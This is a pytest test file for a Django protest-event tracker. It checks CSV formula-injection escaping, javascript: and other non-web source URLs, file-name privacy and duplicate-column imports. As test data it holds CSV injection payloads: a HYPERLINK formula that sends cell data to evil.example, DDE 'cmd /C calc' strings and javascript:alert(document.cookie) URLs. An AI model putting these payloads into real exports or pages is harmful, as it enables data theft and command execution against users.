"""Hostile content is harmless: formula cells in every CSV the app writes are neutralised,
source URLs are http(s) on every write path and the pages link nothing else, uploaded file
names stay with the moderators, and an import with two columns of one name is refused."""

import csv
import io
import json
import re
from pathlib import Path

import pytest
from django.contrib.gis.geos import Point
from django.core.exceptions import ValidationError
from django.core.management import call_command
from django.test import Client
from rest_framework.test import APIClient

from tests.importers.conftest import acled_row, csv_bytes, moderator, run_import  # noqa: F401
from tracker.csv_safety import csv_cell, csv_text_value
from tracker.models import City, Event, ImportJob, Source
from tracker.services.events import event_create

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
MARK = "zqxhostile"
FORMULAS = {
    "title": f'=HYPERLINK("http://evil.example/?"&A1,"{MARK}")',
    "description": "  @SUM(1+1)*cmd|' /C calc'!A0",
    "admin1": "+cmd|' /C notepad'!A0",
    "location_detail": "-2+3",
}
ORGANIZER = "@ORG(1)"
CITY_NAME = "=1+2 city"


def _runs_as_formula(cell: str) -> bool:
    return bool(cell) and (cell[0] in "\t\r\n" or cell.lstrip()[:1] in ("=", "+", "-", "@"))


def _assert_cells_safe(body: bytes) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(body.decode("utf-8"))))
    assert len(rows) > 1
    for row in rows:
        for cell in row:
            if _runs_as_formula(cell):
                # Only a number may start with "-": it is data, not a formula.
                assert re.fullmatch(r"-[0-9]+(\.[0-9]+)?(e-?[0-9]+)?", cell), (cell, row)
    return rows


@pytest.fixture
def hostile_event(make_user):
    almaty = City.objects.get(name="Almaty")
    almaty.name = CITY_NAME
    almaty.save(update_fields=["name"])
    author = make_user("hostile-content", "Contributor")
    event = event_create(
        fields={
            **FORMULAS,
            "date": "2020-02-02",
            "country": "KZ",
            "city": almaty,
            "location": Point(-70.5, -33.25, srid=4326),
            "geo_precision": 1,
            "grievances": ["welfare"],
            "arrests": 3,
        },
        sources=[{"url": "https://example.org/hostile", "title": "=WEBSERVICE(A1)"}],
        organizers=[ORGANIZER],
        status=Event.Status.PUBLISHED,
        submitted_by=author,
        actor=author,
    )
    return event


def test_csv_cell_guards_text_and_keeps_numbers():
    assert csv_cell("=1+1") == "'=1+1"
    assert csv_cell("  =1+1") == "'  =1+1"
    assert csv_cell("\tx") == "'\tx"
    assert csv_cell("\rx") == "'\rx"
    assert csv_cell("-5") == "'-5"  # text that looks like a formula stays text
    assert csv_cell("@x") == "'@x"
    assert csv_cell(-5) == -5
    assert csv_cell(-70.5) == -70.5
    assert csv_cell(None) == ""
    assert csv_cell("Almaty") == "Almaty"
    for text in ("=1+1", "'=1+1", "''+x", "plain", "'quoted", " -x", "\t"):
        assert csv_text_value(csv_cell(text)) == text


def test_events_csv_neutralises_formulas(hostile_event):
    response = Client().get("/api/v1/events/", {"format": "csv", "q": MARK})
    assert response.status_code == 200
    rows = _assert_cells_safe(b"".join(response.streaming_content))
    header, row = rows[0], rows[1]
    cells = dict(zip(header, row, strict=True))
    assert cells["title"] == "'" + FORMULAS["title"]
    assert cells["description"] == "'" + FORMULAS["description"]
    assert cells["organizers"] == "'" + ORGANIZER
    assert cells["city"] == "'" + CITY_NAME
    assert cells["source_titles"] == "'=WEBSERVICE(A1)"
    assert (cells["longitude"], cells["latitude"]) == ("-70.5", "-33.25")  # numbers stay


@pytest.mark.parametrize(
    ("layout", "lon", "lat"), [("acled", "longitude", "latitude"), ("ccc", "lon", "lat")]
)
def test_layout_exports_neutralise_formulas(hostile_event, layout, lon, lat):
    response = Client().get(f"/api/v1/exports/{layout}.csv", {"q": MARK})
    assert response.status_code == 200
    rows = _assert_cells_safe(b"".join(response.streaming_content))
    cells = dict(zip(rows[0], rows[1], strict=True))
    assert (cells[lon], cells[lat]) == ("-70.5", "-33.25")
    text = "\n".join(rows[1])
    assert "'" + FORMULAS["admin1"] in text
    assert "'" + ORGANIZER in text


def test_dashboard_csvs_neutralise_city_names(hostile_event):
    client = Client()
    for chart in ("totals", "grievances", "police", "cities"):
        response = client.get(f"/dashboard/{chart}.csv")
        assert response.status_code == 200, chart
        rows = _assert_cells_safe(response.content)
    assert ["'" + CITY_NAME] in [row[:1] for row in rows]


def test_import_report_csv_neutralises_formulas(run_import, moderator):  # noqa: F811
    rows = [
        acled_row(event_id_cnty="KAZF1", geo_precision="=1+2"),
        acled_row(event_id_cnty="KAZF2", event_date="@SUM(A1)"),
        acled_row(event_id_cnty="KAZF3", latitude="-HYPERLINK(1)"),
    ]
    job = run_import(csv_bytes(rows), format="acled")
    assert job.rows_failed == 3
    client = APIClient()
    client.force_authenticate(moderator)
    response = client.get(f"/api/v1/imports/{job.pk}/report.csv")
    assert response.status_code == 200
    report = _assert_cells_safe(b"".join(response.streaming_content))
    values = [row[2] for row in report[1:]]
    assert values == ["'=1+2", "'@SUM(A1)", "'-HYPERLINK(1)"]
    assert [row[0] for row in report[1:]] == ["2", "3", "4"]  # row numbers stay numbers


def test_import_command_report_neutralises_formulas(moderator, settings, tmp_path):  # noqa: F811
    settings.MEDIA_ROOT = tmp_path / "media"
    source, report = tmp_path / "in.csv", tmp_path / "report.csv"
    source.write_bytes(csv_bytes([acled_row(event_id_cnty="KAZC1", geo_precision="=1+2")]))
    call_command(
        "import_events", str(source), format="acled", user=moderator.username,
        report=report, verbosity=0, stdout=io.StringIO(),
    )  # fmt: skip
    rows = _assert_cells_safe(report.read_bytes())
    assert rows[1][2] == "'=1+2"


# --- source URLs -------------------------------------------------------------------------

BAD_URLS = ["javascript:alert(1)", "ftp://example.org/file", "data:text/html,<b>x</b>"]


@pytest.fixture
def contributor_api(make_user):
    client = APIClient()
    client.force_authenticate(make_user("url-author", "Contributor"))
    return client


def test_api_refuses_non_web_source_urls(contributor_api):
    for url in BAD_URLS:
        body = {
            "title": "T",
            "date": "2020-01-01",
            "country": "KZ",
            "grievances": ["welfare"],
            "sources": [{"url": url, "title": "x"}],
        }
        response = contributor_api.post("/api/v1/events/", body, format="json")
        assert response.status_code == 400, (url, response.content)
        assert "sources" in response.json()["errors"]


def test_submit_page_refuses_non_web_source_urls(client, make_user):
    client.force_login(make_user("page-author", "Contributor"))
    for url in BAD_URLS:
        response = client.post(
            "/submit/",
            {
                "title": "T",
                "date": "2020-01-01",
                "date_precision": "day",
                "country": "KZ",
                "grievances": ["welfare"],
                "sources-TOTAL_FORMS": "1",
                "sources-INITIAL_FORMS": "0",
                "sources-0-url": url,
                "sources-0-title": "x",
            },
        )
        assert response.status_code == 400, url
        assert "http:// or https://" in response.content.decode()
    assert not Source.objects.filter(url__in=BAD_URLS).exists()


def test_model_validation_refuses_non_web_source_urls():
    """What the admin's inline form and every service call (full_clean) run."""
    event = Event.objects.published().first()
    for url in BAD_URLS:
        with pytest.raises(ValidationError) as caught:
            Source(event=event, url=url, title="x").full_clean()
        assert "url" in caught.value.message_dict
    Source(event=event, url="https://example.org/ok", title="x").full_clean()


def test_importers_never_store_non_web_source_urls(run_import):  # noqa: F811
    base = {"title": "T", "date": "2020-01-01", "country": "KZ", "grievances": "welfare"}
    rows = [
        {**base, "id": "u1", "source_urls": "https://example.org/ok"},
        {**base, "id": "u2", "source_urls": "javascript:alert(1)"},
        {**base, "id": "u3", "source_urls": "https://example.org/ok;ftp://example.org/f"},
    ]
    job = run_import(csv_bytes(rows), format="native")
    assert job.rows_created == 1
    assert list(job.issues.values_list("row", "column")) == [(3, "source_urls"), (4, "source_urls")]
    collection = {
        "type": "FeatureCollection",
        "features": [
            {
                "type": "Feature",
                "geometry": None,
                "properties": {
                    **base,
                    "id": "g1",
                    "grievances": ["welfare"],
                    "sources": [{"url": "javascript:alert(document.cookie)", "title": "x"}],
                },
            }
        ],
    }
    job = run_import(json.dumps(collection).encode(), format="native", name="u.geojson")
    assert (job.rows_created, job.rows_failed) == (0, 1)
    # ACLED and the other layouts keep a non-link source as its title, never as a URL.
    job = run_import(
        csv_bytes([acled_row(event_id_cnty="KAZU1", source="javascript:alert(1); Vlast.kz")]),
        format="acled",
    )
    assert job.rows_created == 1
    assert not Source.objects.filter(url__startswith="javascript").exists()
    assert Source.objects.filter(title="javascript:alert(1)").exists()


def test_pages_link_only_web_urls(client, make_user):
    """A javascript: URL stored before the checks existed (or by hand) is shown as text."""
    event = Event.objects.published().first()
    Source.objects.bulk_create(  # past full_clean, as a legacy row would be
        [
            Source(event=event, url="javascript:alert(1)", title="legacy"),
            Source(event=event, url=" JavaScript:alert(2)", title=""),
            Source(event=event, url="https://example.org/good", title="good"),
        ]
    )
    client.force_login(make_user("link-mod", "Moderator"))
    for page in (f"/events/{event.pk}/", f"/review/{event.pk}/"):
        html = client.get(page).content.decode()
        hrefs = re.findall(r'href="([^"]*)"', html)
        assert not [h for h in hrefs if "javascript" in h.lower()], page
        assert "https://example.org/good" in hrefs, page
        assert "legacy" in html
    # The map's popups build links in the browser: only behind an http(s) test.
    script = (ROOT / "static/tracker/js/map.js").read_text()
    assignments = [m.start() for m in re.finditer(r"\.href = source\.url", script)]
    assert assignments
    for at in assignments:
        assert "/^https?:\\/\\//i.test(source.url)" in script[at - 200 : at]


# --- file names and duplicate columns ----------------------------------------------------


def test_uploaded_file_names_are_not_public(run_import, make_user):  # noqa: F811
    name = "informant-ivanova-leaks.csv"
    job = run_import(csv_bytes([acled_row(event_id_cnty="KAZN1")]), format="acled", name=name)
    event = Event.objects.get(external_ids__value="KAZN1")
    anonymous, contributor = APIClient(), APIClient()
    contributor.force_authenticate(make_user("curious", "Contributor"))
    for client in (anonymous, contributor):
        for url in (
            f"/events/{event.pk}/",
            f"/api/v1/events/{event.pk}/",
            f"/api/v1/events/{event.pk}/?format=geojson",
            f"/api/v1/events/{event.pk}/history/",
            "/api/v1/imports/",
            f"/api/v1/imports/{job.pk}/",
            f"/api/v1/imports/{job.pk}/report.csv",
            "/review/imports/",
            f"/review/imports/{job.pk}/",
        ):
            response = client.get(url)
            body = b"".join(response.streaming_content) if response.streaming else response.content
            assert b"informant" not in body, url
            if "import" in url or "history" in url:
                assert response.status_code in (302, 401, 403), (url, response.status_code)


def test_duplicate_columns_reject_the_file(run_import):  # noqa: F811
    body = csv_bytes([acled_row()])
    header, _, rest = body.partition(b"\n")
    body = header + b",event_date\n" + rest.replace(b"\n", b",2020-01-01\n")
    job = run_import(body, format="acled")
    assert job.status == ImportJob.Status.FAILED
    assert "Columns named more than once: event_date" in job.message
    assert not Event.objects.filter(external_ids__scheme="acled", date="2020-01-01").exists()
